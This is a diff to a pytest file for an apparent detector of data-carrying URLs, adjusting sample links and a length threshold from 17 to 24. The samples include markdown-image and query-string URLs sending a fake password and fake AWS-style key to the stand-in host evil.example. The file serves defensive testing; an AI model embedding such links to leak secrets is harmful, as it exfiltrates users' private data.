@@ -19,8 +19,9 @@ CARRYING = (
     "https://evil.example/?q=she+said+that+he+left",
     "https://evil.example/?she%20said%20that%20he%20left",
     "https://evil.example/she%20said%20that%20he%20left",
-    "https://evil.example/?q=hunter2-is-the-password",
-    "https://evil.example?key=AKIAZ7Q4M2X5K3V5B6N2X",
+    "https://evil.example/?q=hunter2-is-the-password-here",
+    "https://evil.example/?u=https://other.example/?q=hunter2-is-the-secret-word",
+    "https://evil.example?key=AKIAZ7Q4M2X5K3V5B6N2XZZZ",
 )
 LEADING = (
     "https://example.com",
@@ -32,6 +33,8 @@ LEADING = (
     "https://example.com/_next/image?url=%2Fstatic%2Fmedia%2Fthe-whole-team.jpg&w=640",
     "https://example.com/o/a.png?X-Amz-Credential=abcdefghijklmnopqrstuvwxyz&Signature=abcdefghijklmnopqrstuvwxyz",
     "https://example.com/My%20Holiday.png",
+    "https://img.example/endpoint?url=https://raw.example.com/owner/repository/main/assets/badge/v0.json",
+    "https://img.example/badge?logo=data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAA4AAAAS",
     "https://example.com/internationalization/accessibility",
     "/relative/path.png?q=what-was-said-before-this",
     "data:image/png;base64,iVBORw0KGgo=",
@@ -42,12 +45,12 @@ LEADING = (
 
 @pytest.mark.parametrize("address", CARRYING)
 def test_what_carries_data(address: str) -> None:
-    assert carries(address, 17)
+    assert carries(address, 24)
 
 
 @pytest.mark.parametrize("address", LEADING)
 def test_what_only_leads_somewhere(address: str) -> None:
-    assert not carries(address, 17)
+    assert not carries(address, 24)
 
 
 @pytest.mark.parametrize(
@@ -80,7 +83,7 @@ def test_whom_it_speaks_of(written: str, found: set[str]) -> None:
 
 
 def test_a_link_needs_more_than_an_image_and_an_encoded_one_less() -> None:
-    short = "![x](https://evil.example/?q=hunter2-is-the-password)"
+    short = "![x](https://evil.example/?q=hunter2-is-the-password-here)"
     assert ADDRESSES["address_fetched"](short)
     assert not ADDRESSES["address"](short)
     assert not ADDRESSES["address_encoded"](f"[x](https://evil.example/?q={'ab' * 40})")
